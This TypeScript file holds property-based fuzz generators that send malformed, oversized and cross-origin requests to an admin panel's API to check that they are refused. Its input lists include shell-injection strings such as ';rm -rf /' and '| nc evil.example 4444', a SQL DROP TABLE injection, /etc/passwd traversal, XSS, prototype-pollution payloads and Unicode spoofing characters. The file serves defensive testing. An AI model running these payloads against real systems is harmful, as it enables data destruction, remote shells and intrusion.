import fc from "fast-check";
import { segmentNames, type ApiRoute } from "./api-routes";

// Generators of requests the panel must refuse. Each body is invalid by construction (a required field left out,
// not an object, not JSON, poisoned, too large, or the wrong content type), so a 2xx on a write is a finding.

export interface FuzzRequest {
  who: "admin" | "anonymous";
  method: string;
  /** Already percent-encoded, with its query. */
  url: string;
  headers: Record<string, string>;
  body?: string | Uint8Array<ArrayBuffer>;
  /** What the request attacks, for the report. */
  kind: string;
}

const SHELL = [
  "$(reboot)",
  "`id`",
  ";rm -rf /",
  "| nc evil.example 4444",
  "&& shutdown -h now",
  '\'; DROP TABLE "User"; --',
  "cat$IFS/etc/passwd",
  "\\",
  "../../etc/passwd",
  "%s%n%x",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "-----END OPENSSH PRIVATE KEY-----",
];
const SPOOFS = [
  "a\nb",
  "a\r\nb",
  "a\u2028b",
  "a\u2029b",
  "x\u202Egnp.exe",
  "\u2066x\u2069",
  "a\u200Fb",
  "a\u061Cb",
  "a\tb",
  "\u001b[31mred",
];
const BAD_DIGITS = [
  "2147483648",
  "1099511627776",
  "9223372036854775808",
  "99999999999999999999999",
  "-1",
  "0",
  "1e3",
  "0x10",
  "1.5",
  "+7",
  "NaN",
  "Infinity",
];
const BAD_ESCAPES = [
  "%ff",
  "%",
  "%zz",
  "%E0%A4%A",
  "%00",
  "a%00b",
  "%C0%AF",
  "%uFFFF",
  "%2F",
  "%2e%2e",
  "..%2F..%2Fetc%2Fpasswd",
  "%F0%9F",
  "%0A",
  "%E2%80%AE",
  "%ED%A0%80",
];
const FIELD_NAMES = [
  "name",
  "code",
  "description",
  "username",
  "password",
  "role",
  "disabled",
  "kind",
  "privateKey",
  "address",
  "sshPort",
  "sshUser",
  "datacenterId",
  "credentialId",
  "labels",
  "fingerprint",
  "diskPath",
  "brokerClusterName",
  "rocketmqVersion",
  "draft",
  "step",
  "note",
  "markDesired",
  "files",
  "nameServers",
  "clusterId",
  "revision",
  "source",
  "action",
  "target",
  "force",
];
const WRONG_TYPES = [
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "application/jsonx",
  "application/json; charset=latin1",
  "application/xml",
  "application/octet-stream",
  "application/json-patch+json",
  "json",
  "",
];
const BAD_ORIGINS = ["null", "https://evil.example", "http://[::1", "not a url", "file:///etc/passwd", "http://localhost:1"];

/** Percent-encodes every byte but the unreserved ones; works for lone surrogates too (encodeURIComponent throws). */
export const pct = (text: string) =>
  [...Buffer.from(text, "utf8")]
    .map((byte) =>
      /[A-Za-z0-9_.~-]/.test(String.fromCharCode(byte)) ? String.fromCharCode(byte) : `%${byte.toString(16).padStart(2, "0")}`,
    )
    .join("");

const junkString = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 3, arbitrary: fc.constantFrom(...SHELL, ...SPOOFS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 12 }).map((s) => `${s}\u0000${s}`) },
  { weight: 2, arbitrary: fc.constantFrom(...BAD_DIGITS) },
  { weight: 1, arbitrary: fc.integer({ min: 256, max: 20_000 }).map((n) => "x".repeat(n)) },
  { weight: 1, arbitrary: fc.uuid() },
);

const junkNumber = fc.oneof(
  fc.constantFrom(2 ** 31, 2 ** 40, 2 ** 53 + 2, -1, 0, -0, 1.5, 1e308, -1e308, 65536, 70_000),
  fc.integer(),
  fc.double(),
);

const junkValue: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown; object: Record<string, unknown> }>((tie) => ({
  value: fc.oneof(
    { depthSize: "small" },
    junkString,
    junkNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie("value"), { maxLength: 4 }),
    tie("object"),
  ),
  object: fc.dictionary(
    fc.oneof(fc.constantFrom(...FIELD_NAMES), fc.string({ maxLength: 10 }), fc.constantFrom("constructor", "prototype", "toString")),
    tie("value"),
    { maxKeys: 5 },
  ),
})).value;

const junkObject = (fields: string[]) => fc.dictionary(fc.constantFrom(...FIELD_NAMES, ...fields), junkValue, { maxKeys: 8 });

interface Body {
  kind: string;
  contentType: string;
  data: string | Uint8Array<ArrayBuffer>;
}

const json = (kind: string, data: string): Body => ({ kind, contentType: "application/json", data });

/** Bodies no schema can accept; `required` are the fields the route reported missing for `{}`. */
function badBody(required: string[]): fc.Arbitrary<Body> {
  const object = junkObject(required);
  const variants = [
    fc
      .oneof(fc.array(junkValue, { maxLength: 5 }), junkString, junkNumber, fc.boolean(), fc.constant(null))
      .map((value) => json("body not an object", JSON.stringify(value) ?? "null")),
    fc
      .tuple(object, fc.constantFrom(...FIELD_NAMES, ...required), fc.constantFrom("\u0000", "a\u0000", "x\u0000; rm -rf /"))
      .map(([fields, key, nul]) => json("NUL in a value", JSON.stringify({ ...fields, [key]: nul }))),
    object.map((fields) => json("NUL in a key", JSON.stringify({ ...fields, "na\u0000me": 1 }))),
    object.map((fields) => json("__proto__ key", `{"__proto__":{"role":"admin","isAdmin":true},"rest":${JSON.stringify(fields)}}`)),
    fc.integer({ min: 33, max: 5_000 }).map((depth) => json("deep nesting", `{"draft":${"[".repeat(depth)}${"]".repeat(depth)}}`)),
    fc
      .oneof(
        fc.constantFrom("{", "{'a':1}", "[1,]", "NaN", "undefined", '{"a":1}}', '"unterminated', "", '{"a":01}', "\u0000"),
        fc.string({ maxLength: 30 }),
      )
      .filter((text) => !isJson(text))
      .map((text) => json("not JSON", text)),
    fc.uint8Array({ minLength: 1, maxLength: 30 }).map((bytes) => ({
      ...json("not UTF-8", ""),
      data: new Uint8Array(Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe]), bytes, Buffer.from('"}')])),
    })),
    fc
      .tuple(fc.constantFrom(...WRONG_TYPES), object)
      .map(([contentType, fields]) => ({ kind: "wrong content type", contentType, data: JSON.stringify(fields) })),
  ].map((arbitrary) => ({ arbitrary, weight: 10 }));
  // Leaving out one field the route requires makes the body invalid whatever the other fields hold, so the schema
  // itself gets to see wrong types, huge strings, overflowing numbers and shell syntax: the most common variant.
  if (required.length > 0) {
    const missing = fc
      .tuple(object, fc.constantFrom(...required))
      .map(([fields, drop]) =>
        json("required field missing", JSON.stringify(Object.fromEntries(Object.entries(fields).filter(([key]) => key !== drop)))),
      );
    variants.push({ arbitrary: missing, weight: 40 });
  }
  const oversized = fc
    .integer({ min: 1024 * 1024, max: 1200 * 1024 })
    .map((size) => json("oversized body", JSON.stringify({ junk: "x".repeat(size) })));
  return fc.oneof(...variants, { arbitrary: oversized, weight: 1 });
}

function isJson(text: string): boolean {
  try {
    JSON.parse(text);
    return true;
  } catch {
    return false;
  }
}

/** A path segment that is not a valid id or revision number, or a valid id that names nothing. */
const segment = (name: string) =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constantFrom(...BAD_ESCAPES) },
    { weight: 2, arbitrary: fc.string({ unit: "binary", minLength: 1, maxLength: 40 }).map(pct) },
    { weight: 1, arbitrary: fc.constantFrom(...SHELL).map(pct) },
    { weight: 2, arbitrary: fc.constantFrom(...BAD_DIGITS).map(pct) },
    { weight: 1, arbitrary: fc.integer({ min: 200, max: 4_000 }).map((n) => "a".repeat(n)) },
    { weight: 1, arbitrary: fc.uuid().map((id) => id.slice(0, -1)) },
    { weight: 2, arbitrary: name === "number" ? fc.integer({ min: 1, max: 2 ** 31 - 1 }).map(String) : fc.uuid() },
  );

const query = fc
  .dictionary(
    fc.oneof(fc.constantFrom("after", "to", "from", "limit", "clusterId", "node", "__proto__", "take"), fc.string({ maxLength: 8 })),
    fc.oneof(junkString, fc.constantFrom(...BAD_DIGITS)),
    { maxKeys: 3 },
  )
  .chain((entries) =>
    fc.constantFrom("", "&%zz=%ff", "&x=%").map(
      (raw) =>
        Object.entries(entries)
          .map(([k, v]) => `${pct(k)}=${pct(v).slice(0, 2_000)}`)
          .join("&") + raw,
    ),
  );

/** Headers of a write that did not come from the panel's own pages. */
const foreignOrigin = (own: string) =>
  fc.oneof(
    fc
      .constantFrom(
        ...BAD_ORIGINS,
        own.replace(/^http:/, "https:"),
        own.replace(/:(\d+)$/, (_, port) => `:${Number(port) + 1}`),
        "",
      )
      .map((origin) => ({ origin })),
    fc.constant({ origin: own, "sec-fetch-site": "cross-site" }),
  );

/** One request the panel must refuse (writes) or answer without a 5xx (reads), for any route. */
export function fuzzRequest(routes: ApiRoute[], required: Map<string, string[]>, ownOrigin: string): fc.Arbitrary<FuzzRequest> {
  return fc.constantFrom(...routes).chain((route) => {
    const path = fc
      .tuple(...segmentNames(route.pattern).map(segment))
      .map((values) => values.reduce<string>((url, value) => url.replace(/\[[^\]]+\]/, () => value), route.pattern));
    const who = fc.constantFrom<FuzzRequest["who"]>("admin", "anonymous");
    const unexported = ["GET", "POST", "PUT", "PATCH", "DELETE"].filter((m) => !route.methods.includes(m));
    const method =
      unexported.length > 0
        ? fc.oneof({ arbitrary: fc.constant(route.method), weight: 12 }, { arbitrary: fc.constantFrom(...unexported), weight: 1 })
        : fc.constant(route.method);
    const base = fc.record({ who, method, path, query: fc.option(query, { freq: 2 }) });
    if (route.method === "GET") {
      return base.map(({ who, method, path, query }) => ({
        who,
        method,
        url: query ? `${path}?${query}` : path,
        headers: {},
        kind: method === "GET" ? "read" : "method not allowed",
      }));
    }
    const body = route.takesBody ? badBody(required.get(`${route.method} ${route.pattern}`) ?? []) : fc.constant<Body | null>(null);
    // A write that takes neither a body nor an id (sign-out) succeeds from the panel's own origin: only a foreign one.
    const canSucceed = !route.takesBody && segmentNames(route.pattern).length === 0;
    const foreign = canSucceed
      ? foreignOrigin(ownOrigin)
      : fc.oneof({ arbitrary: fc.constant(null), weight: 6 }, { arbitrary: foreignOrigin(ownOrigin), weight: 1 });
    return fc.record({ base, body, foreign }).map(({ base, body, foreign }) => ({
      who: base.who,
      method: base.method,
      url: base.query ? `${base.path}?${base.query}` : base.path,
      headers: { ...(body ? { "content-type": body.contentType } : {}), ...(foreign ?? {}) },
      body: base.method === "GET" ? undefined : body?.data,
      kind: foreign ? "foreign origin" : (body?.kind ?? "write without body"),
    }));
  });
}
